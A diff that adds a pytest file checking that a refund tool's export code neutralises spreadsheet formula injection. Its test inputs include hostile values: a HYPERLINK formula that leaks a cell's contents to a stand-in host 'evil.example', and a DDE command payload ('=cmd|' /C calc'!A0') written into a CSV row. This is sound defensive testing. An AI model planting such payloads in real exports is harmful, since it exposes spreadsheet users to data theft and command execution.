@@ -1,0 +1,44 @@
+"""neutralise_formula: what a spreadsheet would run as a formula is written as text; everything else is untouched."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from refundkit.present.tables import write_rows
+from refundkit.textsafety import neutralise_formula
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "  =1+1",
+        "\u00a0=1+1",
+        "\uff1d1+1",
+    ],
+)
+def test_formula_starts_are_neutralised(text: str) -> None:
+    out = neutralise_formula(text)
+    assert out == "'" + text
+    assert neutralise_formula(out) == out  # idempotent
+
+
+@pytest.mark.parametrize("text", ["", "APC-123", "ref 1 = 2", "12.34", "São Paulo", "rf-abc", " ", "a-b@c"])
+def test_other_text_is_unchanged(text: str) -> None:
+    assert neutralise_formula(text) == text
+
+
+def test_csv_neutralises_text_cells_but_not_amounts() -> None:
+    out = io.StringIO()
+    rows = [{"ref": "=cmd|' /C calc'!A0", "reason": "@evil", "user": "+ana", "amount": "-12.34"}]
+    write_rows(out, rows, ["ref", "reason", "user", "amount"], "csv", numeric={"amount"})
+    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row == {"ref": "'=cmd|' /C calc'!A0", "reason": "'@evil", "user": "'+ana", "amount": "-12.34"}
